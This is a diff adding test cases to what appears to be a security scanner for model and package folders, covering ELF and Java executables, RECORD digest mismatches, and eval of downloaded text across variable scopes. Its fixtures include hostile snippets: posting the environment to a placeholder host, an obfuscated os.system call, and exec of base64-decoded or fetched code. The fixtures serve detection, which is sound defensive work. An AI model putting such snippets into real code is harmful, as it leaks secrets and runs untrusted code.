@@ -165,6 +165,13 @@ DATA: list[Case] = [
     ("executable", {"a": b"\x7fELF" + bytes(8), "b.txt": b"MZ__", "c.md": "#!/bin/sh", "d.x": "#!/bin/sh", "e.py": "#!/bin/sh", "f.bat": "x", "g.pth": "import os", "h.ipynb": "{}", "i.gguf": b"\x7fELF", "j.png": b"\x7fELF", "k.pth": "imports"}, [
         "a: error: a program or library for Linux (ELF)", "d.x: warning: a script", "e.py: info: a script", "f.bat: warning: a file that is run when it is opened",
         "g.pth: error: a line that Python runs at its start, if the file is among its installed packages", "h.ipynb: info: Python code", "j.png: error: a program or library for Linux (ELF)"]),
+    # without weights in the folder: what says that it is a program, and what does not
+    ("executable", {"a.bat": "x", "b.so.1": b"\x7fELF", "c": b"\x7fELF", "d.jar": archive({"e.class": b"\xca\xfe\xba\xbe\0\0\0A", "f.class": b"\xca\xfe\xba\xbe\0\0\0A"})}, [
+        "a.bat: info: a file that is run when it is opened", "b.so.1: warning: a program or library for Linux (ELF)", "c: error: a program or library for Linux (ELF)",
+        "d.jar: info: a file that is run when it is opened", "d.jar: warning: 'e.class' in it is a program for macOS or Java"]),
+    # what a Python package's RECORD lists: its digest, another digest, another size
+    ("executable", {"p/a.so": b"\x7fELF", "p/b.so": b"\x7fELF", "p/c.so": b"\x7fELF", "p/m.npz": b"x", "p-1.dist-info/RECORD": "p/a.so,sha256=O9u0_oOXzSuEJDCznM_wGoZjx1GUXvXpoJ4mf7ix01k,4\np/b.so,sha256=AAAA,4\np/c.so,sha256=O9u0_oOXzSuEJDCznM_wGoZjx1GUXvXpoJ4mf7ix01k,5\n"}, [
+        "p/a.so: info: a program or library for Linux (ELF), listed in its package's RECORD", "p/b.so: error: a program or library for Linux (ELF)", "p/c.so: error: a program or library for Linux (ELF)"]),
     ("executable", {"a.bin": archive({"b": b"\x7fELF" + bytes(8), "c.txt": b"hello"})}, ["a.bin: error: 'b' in it is a program or library for Linux (ELF)"]),
     ("link-outside", {"a.bin": Link("../../x"), "b.bin": Link("c"), "c": "x"}, ["a.bin: error: a link to '../../x', outside the folder: not followed"]),
     ("file-name", {"a\u202eb": "x", "\u0441onfig.json": "x", "a\u2003b": "x", "con.txt": "x", "-rf": "x", "a:b": "x", "README": "x", "readme": "x", "größe.txt": "x"}, [
@@ -196,6 +203,10 @@ CODE: list[Case] = [
     ("remote-code", {"modeling_a.py": "import os as o\nrun = o.system\nrun('id')\n"}, ["modeling_a.py: error: it calls os.system (line 2), calls os.system (line 3): do not run it"]),
     ("remote-code", {"modeling_a.py": "getattr(__import__('o' + 's'), 'metsys'[::-1])('id')\n"}, ["modeling_a.py: error: it calls os.system (line 1): do not run it"]),
     ("remote-code", {"handler.py": "from .tools import f\n", "tools.py": "from subprocess import run as f\nf('id')\n", "free.py": "from subprocess import run\nrun('make')\n"}, ["tools.py: error: it calls subprocess.run (line 2): do not run it"]),
+    # another function's variable of the same name; one that a function binds for all, and an outer function's
+    ("remote-code", {"a/w.py": "import requests\ndef f():\n  s = requests.get('http://x').text\ndef g():\n  s = 1\n  eval(s)\n", "b/w.py": "import requests\ndef f():\n  global s\n  s = requests.get('http://x').text\ndef g():\n  eval(s)\n", "c/w.py": "import requests\ndef f():\n  s = requests.get('http://x').text\n  def g():\n    eval(s)\n"}, [
+        "b/w.py: error: it runs what requests.get returns, by eval (line 6): do not run it",
+        "c/w.py: error: it runs what requests.get returns, by eval (line 5): do not run it"]),
     ("remote-code", {"any/where.py": "import base64\nt = base64.b64decode('aQ==')\nexec(t)\n"}, ["any/where.py: error: it runs what base64.b64decode returns, by exec (line 3): do not run it"]),
     ("remote-code", {"code/inference.py": "import requests, os\nrequests.post('http://x', json=dict(os.environ))\n"}, ["code/inference.py: error: it sends the environment (line 2): do not run it"]),
     ("remote-code", {"d/config.json": {}, "d/processing_a.py": "import requests, subprocess\nrequests.get(u)\nsubprocess.run(['ffmpeg', '-i', p])\n"}, ["d/processing_a.py: info: it calls requests.get (line 2), calls subprocess.run for a usual tool (line 3)"]),
